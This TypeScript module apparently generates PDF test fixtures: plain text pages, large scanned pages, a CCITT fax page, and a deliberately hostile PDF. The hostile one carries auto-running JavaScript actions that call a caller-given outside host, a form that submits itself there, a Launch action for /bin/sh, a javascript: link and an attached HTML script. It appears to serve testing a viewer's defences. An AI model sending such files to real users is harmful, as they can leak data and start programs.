import {
  degrees,
  PDFArray,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFString,
  rgb,
  StandardFonts,
  type PDFRef,
} from '@cantoo/pdf-lib';
import { randomBytes } from 'node:crypto';
import sharp from 'sharp';

const A4 = [595.28, 841.89] as const;

/** Letters that are not in the file: each page has its number and the same dark square. */
export async function pdfDeTexto(paginas: number): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const letra = await pdf.embedFont(StandardFonts.Helvetica);
  for (let i = 1; i <= paginas; i += 1) {
    const pagina = pdf.addPage([...A4]);
    pagina.drawText(`Página ${String(i)}: declaração`, { x: 60, y: 700, size: 28, font: letra });
    pagina.drawRectangle({ x: 60, y: 60, width: 200, height: 200, color: rgb(0, 0, 0) });
  }
  return pdf.save();
}

/** Scans of A4 in 300 dpi, as many as make about `megas` MB. */
export async function pdfDeDigitalizacoes(megas: number): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const ruido = { width: 2480, height: 3508, channels: 3 } as const;
  for (let total = 0; total < megas * 1024 * 1024;) {
    const jpeg = await sharp(randomBytes(ruido.width * ruido.height * 3), { raw: ruido })
      .blur(1.2)
      .jpeg({ quality: 80 })
      .toBuffer();
    total += jpeg.length;
    pdf.addPage([...A4]).drawImage(await pdf.embedJpg(jpeg), { x: 0, y: 0, width: A4[0], height: A4[1] });
  }
  return pdf.save({ useObjectStreams: false });
}

/** A page as a fax machine or an office scanner compresses it (CCITT group 4): the left half is black. */
export async function pdfDeFax(): Promise<Uint8Array> {
  const [largura, altura] = [600, 100];
  const pdf = await PDFDocument.create();
  const imagem = pdf.context.stream(emGrupo4(altura), {
    Type: 'XObject',
    Subtype: 'Image',
    Width: largura,
    Height: altura,
    ColorSpace: 'DeviceGray',
    BitsPerComponent: 1,
    Filter: 'CCITTFaxDecode',
    DecodeParms: { K: -1, Columns: largura, Rows: altura, BlackIs1: false },
  });
  const pagina = pdf.addPage([largura, altura]);
  pagina.node.setXObject(PDFName.of('Fax'), pdf.context.register(imagem));
  const desenho = pdf.context.stream(`q ${String(largura)} 0 0 ${String(altura)} 0 0 cm /Fax Do Q`);
  pagina.node.set(PDFName.of('Contents'), pdf.context.register(desenho));
  return pdf.save();
}

/** 300 points black, 300 white, in every line (ITU-T T.6). */
function emGrupo4(linhas: number): Uint8Array {
  // horizontal mode, no white, 256 + 44 black, then white to the end as in the line above
  const primeira = '001' + '00110101' + '000001011011' + '000001010100' + '1';
  const comoAcima = '111';
  const fim = '000000000001'.repeat(2);
  const bits = primeira + comoAcima.repeat(linhas - 1) + fim;
  const bytes = bits.match(/.{1,8}/g) ?? [];
  return Uint8Array.from(bytes, (oito) => Number.parseInt(oito.padEnd(8, '0'), 2));
}

/**
 * A document that tries all that a PDF can try: scripts on opening, on every page and on a field, links over the whole
 * page, a form that sends itself away, a program to start, a file inside and fonts and pictures from elsewhere.
 */
export async function pdfHostil(paraFora: string): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const { context } = pdf;
  const script = (): PDFRef =>
    context.register(
      context.obj({
        S: 'JavaScript',
        JS: PDFHexString.fromText(
          `app.alert('x'); app.launchURL('${paraFora}/script'); this.submitForm('${paraFora}/form');` +
            `globalThis.invadido = true; try { window.invadido = true; parent.invadido = true } catch (e) {}`,
        ),
      }),
    );
  const texto = (t: string): PDFString => PDFString.of(t);
  const pagina = pdf.addPage([...A4]);
  pagina.drawText('Documento', { x: 60, y: 700, size: 40 });
  const campo = pdf.getForm().createTextField('nome');
  campo.setText('campo');
  campo.addToPage(pagina, { x: 60, y: 600, width: 200, height: 30, rotate: degrees(0) });
  campo.acroField.dict.set(
    PDFName.of('AA'),
    context.obj({ K: script(), F: script(), V: script(), C: script() }),
  );
  const inteira = [0, 0, ...A4];
  const acoes = [
    script(),
    context.register(context.obj({ S: 'URI', URI: texto(`${paraFora}/link`) })),
    context.register(context.obj({ S: 'Launch', F: texto('/bin/sh'), NewWindow: true })),
    context.register(context.obj({ S: 'SubmitForm', F: { FS: 'URL', F: texto(`${paraFora}/form`) } })),
    context.register(context.obj({ S: 'URI', URI: texto('javascript:window.invadido=true') })),
    context.register(context.obj({ S: 'GoToR', F: texto(`${paraFora}/outro.pdf`) })),
  ];
  const anotacoes = pagina.node.lookup(PDFName.of('Annots'), PDFArray);
  for (const A of acoes) {
    const link = {
      Type: 'Annot',
      Subtype: 'Link',
      Rect: inteira,
      Border: [0, 0, 0],
      A,
      AA: { E: script(), U: script() },
    };
    anotacoes.push(context.register(context.obj(link)));
  }
  pagina.node.set(PDFName.of('AA'), context.obj({ O: script(), C: script() }));
  pdf.catalog.set(PDFName.of('OpenAction'), script());
  pdf.catalog.set(PDFName.of('AA'), context.obj({ WC: script(), WS: script(), DS: script(), WP: script() }));
  pdf.catalog.set(PDFName.of('URI'), context.obj({ Base: texto(paraFora) }));
  pdf.addJavaScript(
    'ao-abrir',
    `app.alert('x'); globalThis.invadido = true; app.launchURL('${paraFora}/nomes')`,
  );
  await pdf.attach(Buffer.from('<script>window.invadido = true</script>'), 'anexo.html', {
    mimeType: 'text/html',
  });
  return pdf.save();
}
